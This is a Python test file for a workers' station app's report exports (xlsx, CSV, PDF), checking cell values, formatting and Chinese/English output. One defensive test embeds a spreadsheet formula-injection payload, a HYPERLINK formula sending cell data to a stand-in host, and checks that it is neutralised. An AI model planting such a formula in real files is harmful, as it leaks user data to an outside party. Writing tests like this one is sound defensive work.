"""Exports read back: every xlsx cell, the CSV Excel opens, the printable PDF."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pypdfium2

from station_app.reports import build, export, make_range

from .conftest import NAMES
from .expected import expected
from .scenario import NOV

STATIONS = ("MZL01", "EEL02")


def _xlsx_value(kind: str, value):
    if value is None or value == "":
        return None  # an empty cell
    if kind == "money":
        return value / 100
    if kind == "date" and isinstance(value, str) and value[:2] == "20":
        return datetime.fromisoformat(value)
    return value


def test_every_xlsx_cell_matches_the_independent_count(built, tmp_path) -> None:
    ledger, facts, _ = built
    report = build(ledger, make_range(*NOV), STATIONS)
    path = tmp_path / "november.xlsx"
    export.write(report, "xlsx", path)
    book = openpyxl.load_workbook(path)
    want = expected(facts, *NOV, STATIONS, NAMES)
    assert book.sheetnames[0] == "说明"
    assert book.sheetnames[1:] == [t.title("zh_CN") for t in report.tables]
    for table in report.tables:
        sheet = book[table.title("zh_CN")]
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        assert rows[0] == [c.zh for c in table.columns]
        body = want[table.key]["rows"] + ([want[table.key]["total"]]
                                          if want[table.key]["total"] else [])
        assert len(rows) - 1 == len(body), table.key
        for got, exp in zip(rows[1:], body, strict=True):
            assert got == [_xlsx_value(c.kind, exp[c.key]) for c in table.columns], table.key


def test_xlsx_is_formatted_for_excel(built, tmp_path) -> None:
    ledger, _, _ = built
    path = tmp_path / "r.xlsx"
    export.write(build(ledger, make_range(*NOV), STATIONS), "xlsx", path)
    book = openpyxl.load_workbook(path)
    relief = book["慰问（按活动）"]
    assert [c.value for c in relief[1]] == ["编码", "名称", "慰问人次", "慰问人数", "慰问金（元）",
                                            "一人多次例外"]
    assert relief["E2"].number_format == "#,##0.00"
    assert relief["E2"].value == 30  # COOL26, then WARM26: 350.50 at MZL01 + 150 at EEL02
    assert relief["E3"].value == 500.5
    total = relief[relief.max_row]
    assert total[1].value == "合计" and total[1].font.b
    assert relief.freeze_panes == "A2"
    assert relief.column_dimensions["B"].width >= 16  # fits 2026年冬季送温暖 (CJK counts double)
    target = book["新入会会员（对照年度目标）"]
    assert target["F2"].number_format == "0.0%"
    assert target["F2"].value == 0.5  # delivery riders A and D joined in 2026; target 4
    assert book["每日服务"]["A2"].number_format == "yyyy-mm-dd"


def test_csv_has_a_bom_and_opens_as_one_table(built) -> None:
    ledger, facts, _ = built
    report = build(ledger, make_range(*NOV), STATIONS)
    data = export.to_bytes(report, "csv", table="services")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["编码", "名称", "服务人次", "会员人次", "临时来访人次"]
    want = expected(facts, *NOV, STATIONS, NAMES)["services"]
    assert rows[1:-1] == [[r["code"], r["name"], str(r["visits"]), str(r["member_visits"]),
                           str(r["walk_ins"])] for r in want["rows"]]
    assert rows[-1][1] == "合计" and rows[-1][2] == str(want["total"]["visits"])


def test_csv_of_the_whole_report_shows_yuan(built) -> None:
    ledger, _, _ = built
    text = export.to_bytes(build(ledger, make_range(*NOV), STATIONS), "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["WARM26", "2026年冬季送温暖", "5", "4", "500.50", "1"] in rows
    assert ["按服务项目"] in rows and ["总览"] in rows


def test_pdf_monthly_report_prints_in_chinese(built) -> None:
    ledger, _, _ = built
    data = export.to_bytes(build(ledger, make_range(*NOV), ("MZL01",)), "pdf")
    pdf = pypdfium2.PdfDocument(data)
    text = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
    assert "满洲里口岸驿站 2026年11月 服务统计" in text
    assert "按服务项目" in text and "每日服务人次" in text
    assert "350.50" in text  # relief money in yuan
    assert "会员A" not in text


def test_write_replaces_the_file_whole(built, tmp_path) -> None:
    ledger, _, _ = built
    path = tmp_path / "out.json"
    path.write_text("old")
    export.write(build(ledger, make_range(*NOV)), "json", path)
    assert path.read_text().startswith("{")
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]


def test_text_typed_at_a_counter_never_becomes_a_spreadsheet_formula(fresh_db, tmp_path) -> None:
    """An employer, a campaign or a goods item starting with ``=`` stays text in xlsx (the
    roster and the report) and cannot run when a CSV is opened in a spreadsheet program."""
    from datetime import date

    from station_app.domain import clock
    from station_app.reports import roster
    from station_app.services import members, relief
    from tests.helpers import rid

    attack = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'
    with clock.fixed(datetime(2026, 11, 3, 10).astimezone()):
        members.sign_up_member(fresh_db, members.SignUp(
            name="王五", id_number=rid(1), phone="13900000001", worker_type="courier",
            employer=attack), by="t")
        relief.define_campaign(fresh_db, code="C1", name="=1+1", kind="cooling", by="t")
        relief.give_relief(fresh_db, campaign="C1", walk_in_type="courier", by="t",
                           goods=[relief.Goods("@SUM(1)", 2), relief.Goods(attack, 1)])
    book = openpyxl.load_workbook(io.BytesIO(roster.roster_bytes(roster.roster_rows(
        fresh_db, None))))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == attack]
    assert cells and all(c.data_type == "s" for c in cells)
    found = build(fresh_db, make_range(date(2026, 11, 1), date(2026, 11, 30)), None)
    book = openpyxl.load_workbook(io.BytesIO(export.to_bytes(found, "xlsx")))
    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert texts and all(c.data_type == "s" for c in texts)
    text = export.to_csv(found)
    assert attack not in [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + attack in [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'@SUM(1)" in text


def test_english_workbook_has_whole_sheet_names_and_english_lists(built, tmp_path) -> None:
    """(A sheet was named "New members against the yearly " — cut at Excel's 31 characters —
    and the English About sheet listed the stations with the Chinese 、.)"""
    ledger, _, _ = built
    path = tmp_path / "en.xlsx"
    export.write(build(ledger, make_range(*NOV), STATIONS, lang="en"), "xlsx", path)
    book = openpyxl.load_workbook(path)
    assert all(len(n) <= 31 and n == n.strip() for n in book.sheetnames)
    assert "New members vs yearly target" in book.sheetnames
    assert book["New members vs yearly target"]["A1"].value == "Code"
    about = {r[0]: r[1] for r in book["About"].iter_rows(values_only=True) if r and r[0]}
    assert about["Stations"] == "MZL01, EEL02"
    zh = tmp_path / "zh.xlsx"
    export.write(build(ledger, make_range(*NOV), STATIONS), "xlsx", zh)
    about = {r[0]: r[1] for r in openpyxl.load_workbook(zh)["说明"].iter_rows(values_only=True)
             if r and r[0]}
    assert about["驿站"] == "MZL01、EEL02"
    note = about["各驿站及数据截至日期"]
    assert "上级台账" in note and "督导" not in note  # the UI's word for a supervisor's ledger


def test_relief_goods_never_add_up_different_items(built, tmp_path) -> None:
    """(The goods sheet's total row added cups and gloves together.)"""
    ledger, _, _ = built
    path = tmp_path / "r.xlsx"
    export.write(build(ledger, make_range(*NOV), STATIONS), "xlsx", path)
    rows = list(openpyxl.load_workbook(path)["慰问物资（按品名）"].iter_rows(values_only=True))
    assert rows[0] == ("编码", "名称", "物资", "数量")
    assert rows[1:] == [("COOL26", "2026年夏季送清凉", "矿泉水", 6),
                        ("WARM26", "2026年冬季送温暖", "保温杯", 1),
                        ("WARM26", "2026年冬季送温暖", "棉手套", 4),
                        ("WARM26", "2026年冬季送温暖", "矿泉水", 2)]  # no 合计 of mixed items


def test_long_sheet_names_are_cut_between_words() -> None:
    from station_app.reports.xlsx import sheet_title

    used: set[str] = set()
    assert sheet_title("New members against the yearly target", used) == (
        "New members against the yearly")
    assert sheet_title("New members against the yearly target", used) == (
        "New members against the (2)")
    assert sheet_title("新入会会员" * 7, set()) == ("新入会会员" * 7)[:31]
    assert sheet_title("Relief: goods/items", set()) == "Relief_ goods_items"


def test_pdf_keeps_each_chart_heading_with_its_chart(built) -> None:
    """(With two stations, 各服务项目人次 was left alone at the foot of page 1, its chart
    overleaf.) The page a chart's heading is on has the chart: its 最高 label follows."""
    ledger, _, _ = built
    data = export.to_bytes(build(ledger, make_range(*NOV), STATIONS), "pdf")
    pdf = pypdfium2.PdfDocument(data)
    pages = [pdf[i].get_textpage().get_text_range() for i in range(len(pdf))]
    headings = ("各服务项目人次", "每日服务人次", "各时段服务人次")
    for heading in headings:
        on = [text for text in pages if heading in text]
        assert len(on) == 1, heading
        chart = on[0].split(heading, 1)[1]
        assert "最高" in chart, heading
        assert not any(h in chart.split("最高", 1)[0] for h in headings), heading
